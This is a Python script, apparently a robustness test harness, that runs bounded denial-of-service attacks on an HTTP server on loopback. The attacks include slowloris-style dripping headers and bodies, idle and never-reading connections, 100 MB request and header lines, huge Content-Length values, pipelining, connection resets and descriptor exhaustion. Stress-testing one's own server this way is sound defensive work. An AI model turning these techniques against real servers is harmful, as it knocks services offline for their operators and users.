#!/usr/bin/env python3
"""Attacks one server on loopback. Each attack has a bounded number of connections and a bounded time.

Usage: attacks.py NAME PORT SECONDS HEALTH-PATH CHANGE-PATH
"""

import contextlib
import resource
import select
import socket
import struct
import sys
import time

RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close() resets the connection and leaves nothing in the kernel
STEPS = 20  # a second: an attack with many connections uses a part of them in each step
MEGABYTE = 1_000_000
SLOW = b"X-Slow: "


def main():
    name, port, seconds, health, change = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), *sys.argv[4:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4600, hard) if hard > 0 else 4600, hard))
    head = f"GET {health} HTTP/1.1\r\nHost: a\r\n".encode()
    body = f"POST {change} HTTP/1.1\r\nHost: a\r\nContent-Length: 5000\r\n\r\n".encode()
    ATTACKS[name](port, time.monotonic() + seconds, body if "bodies" in name else head)


def connect(port, blocking=False):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    connection.settimeout(1 if blocking else 0)
    with contextlib.suppress(BlockingIOError):
        connection.connect(("127.0.0.1", port))
    return connection


def hold(port, until, size, opening, drip=b""):
    """Holds `size` connections. Each sends `opening`, then `drip` once a second, and reads nothing. Opens a new one for
    each that the server closes."""
    connections = [None] * size
    has_opened = [False] * size
    step = 0
    while time.monotonic() < until:
        for at in range(size) if step == 0 else range(step % STEPS, size, STEPS):
            with contextlib.suppress(OSError):
                if connections[at] is None:
                    connections[at], has_opened[at] = connect(port), False
                if not has_opened[at]:
                    has_opened[at] = not opening or connections[at].send(opening) > 0
                elif drip:
                    connections[at].send(drip)
        drop_closed(connections)
        step += 1
        time.sleep(1 / STEPS)


def drop_closed(connections):
    poll = select.poll()
    numbers = {}
    for at, connection in enumerate(connections):
        if connection is not None:
            numbers[connection.fileno()] = at
            poll.register(connection, select.POLLRDHUP)
    for number, _ in poll.poll(0):
        connections[numbers[number]].close()
        connections[numbers[number]] = None


def connect_many(port, until, _head):
    """Opens 20,000 connections as fast as possible, and holds the last 1,000."""
    held = [None] * 1000
    for number in range(20_000):
        if time.monotonic() > until:
            break
        with contextlib.suppress(OSError):
            if held[number % 1000] is not None:
                held[number % 1000].close()
            held[number % 1000] = connect(port)


def send_much(port, until, opening, chunk):
    """Sends up to 100 MB on a connection and reads nothing, then opens the next connection."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(port, blocking=True) as connection:
            connection.sendall(opening)
            for _ in range(100 * MEGABYTE // len(chunk)):
                if time.monotonic() > until:
                    break
                connection.sendall(chunk)
        time.sleep(0.01)


def send_and_reset(port, until, request):
    for _ in range(3_000):
        if time.monotonic() > until:
            break
        with contextlib.suppress(OSError), connect(port, blocking=True) as connection:
            connection.sendall(request)


# The limit of file descriptors with which the server starts for an attack, where it is not the default.
DESCRIPTORS = {"300 idle connections, 64 descriptors": 64}

ATTACKS = {
    "500 heads, a byte a second": lambda p, u, head: hold(p, u, 500, head + SLOW, b"x"),
    "1,000 idle connections": lambda p, u, head: hold(p, u, 1_000, b""),
    "1,000 clients that never read": lambda p, u, head: hold(p, u, 1_000, head + b"\r\n"),
    "500 bodies, a byte a second": lambda p, u, head: hold(p, u, 500, head, b"x"),
    "3,000 times Content-Length 10^15": lambda p, u, head: send_and_reset(p, u, head + b"Content-Length: 999999999999999\r\n\r\n"),
    "a request line of 100 MB": lambda p, u, _: send_much(p, u, b"GET /", b"a" * 65536),
    "a header line of 100 MB": lambda p, u, head: send_much(p, u, head + SLOW, b"a" * 65536),
    "100 MB of header lines": lambda p, u, head: send_much(p, u, head, (SLOW + b"x\r\n") * 5000),
    "100 MB of empty lines": lambda p, u, _: send_much(p, u, b"", b"\r\n" * 32768),
    "pipelined requests, replies unread": lambda p, u, head: send_much(p, u, head + b"\r\n", (head + b"\r\n") * 1000),
    "3,000 resets": lambda p, u, head: send_and_reset(p, u, head + b"\r\n"),
    "300 idle connections, 64 descriptors": lambda p, u, _: hold(p, u, 300, b""),
    "20,000 connections at once": connect_many,
}

if __name__ == "__main__":
    main()
